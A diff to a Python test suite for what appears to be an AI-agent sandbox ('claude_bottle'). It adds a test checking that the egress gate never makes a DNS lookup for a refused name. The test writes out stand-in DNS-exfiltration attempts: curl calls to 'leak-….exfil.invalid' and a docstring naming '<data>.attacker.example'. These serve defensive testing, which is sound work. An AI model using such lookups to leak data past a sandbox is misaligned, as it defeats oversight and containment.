@@ -36,7 +36,7 @@ from claude_bottle.gate.ca import RunCA
 from claude_bottle.policy.hosts import Allowlist
 from claude_bottle.runtime.run import Run
 from claude_bottle.verify.standins import in_bottle
-from tests.bottle.conftest import TEST_LABEL, ImagesFor, Upstream, bottle_against, gate_audit
+from tests.bottle.conftest import TEST_LABEL, ImagesFor, Upstream, bottle_against, gate_audit, gate_datagrams
 from tests.bottle.https_servers import leaf_pem
 from tests.bottle.test_gate_ca import PACKAGES as PYTHON_PACKAGES  # its bottle image has python3: built once
 from tests.helpers import tar_archive
@@ -381,3 +381,22 @@ def test_a_refused_head_request_gets_the_refusals_head(bottle: Run, git_server: 
     assert code == 0, output
     assert "\nHTTP/1.1 403 " in output and "content-length: " in output, output  # after the CONNECT's 200
     assert f"x-deny-reason: DELETE matches no allow rule of [[egress]] {READ}:{PORT}" in output, output
+
+
+def test_a_refused_name_is_never_looked_up(client: docker.DockerClient, bottle: Run, built_images: tuple[str, str]
+                                           ) -> None:
+    """A bottle that names ``<data>.attacker.example`` exfiltrates through the lookup alone, whatever the gate
+    then refuses: the gate's datagrams (DNS, wherever it goes) never carry a refused name, by CONNECT or by
+    plain HTTP. An allowed name is looked up (the capture's control)."""
+    leak = f"leak-{secrets.token_hex(4)}"
+    with gate_datagrams(client, bottle, built_images[1]) as datagrams:
+        curl = "curl -s -m 20 -o /dev/null -w"
+        _, output = in_bottle(bottle, f"{curl} '%{{http_connect}} ' https://{leak}.exfil.invalid/; "
+                                      f"{curl} '%{{http_code}} ' http://{leak}.plain.invalid/; "
+                                      f"{curl} '%{{http_code}}' -k 'https://{OPEN}:{PORT}{REPO}/info/refs?service=git-upload-pack'")
+        assert output.split() == ["403", "403", "200"], output
+        deadline = time.monotonic() + 10
+        while not datagrams.carrying(OPEN) and time.monotonic() < deadline:
+            time.sleep(0.3)
+        assert datagrams.carrying(OPEN), "the capture saw the allowed name's lookup"
+        assert datagrams.carrying(leak) == 0, "a refused name was looked up"
